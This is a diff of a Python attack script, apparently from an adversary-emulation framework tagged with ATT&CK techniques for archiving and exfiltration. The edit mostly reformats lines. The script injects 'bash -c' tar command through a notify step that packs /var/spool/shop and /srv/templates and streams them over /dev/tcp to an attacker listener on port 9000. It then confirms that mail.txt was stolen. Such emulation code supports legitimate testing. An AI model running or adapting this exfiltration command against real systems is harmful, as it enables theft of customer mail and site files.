@@ -18,11 +18,14 @@ def run(attack: Attack) -> bool:
         received.append(data)
 
     with attack.listener(9000, take):
-        attack.notify(f"bash -c 'tar -cz /var/spool/shop /srv/templates >/dev/tcp/{attack.own}/9000'")
+        away = f"/dev/tcp/{attack.own}/9000"
+        attack.notify(f"bash -c 'tar -cz /var/spool/shop /srv/templates >{away}'")
         until(lambda: received)
     with tarfile.open(fileobj=io.BytesIO(received[0])) as archive:
         names = archive.getnames()
-    return attack.prove(any(name.endswith("mail.txt") for name in names), bytes=len(received[0]), files=len(names))
+    return attack.prove(any(name.endswith("mail.txt") for name in names),
+                        bytes=len(received[0]), files=len(names))
 
 
-Attack("T1560.001, T1048.003", ["edge", "front", "notify"], ["/var/spool/shop", "attacker:9000"]).main(run)
+Attack("T1560.001, T1048.003", ["edge", "front", "notify"],
+       ["/var/spool/shop", "attacker:9000"]).main(run)
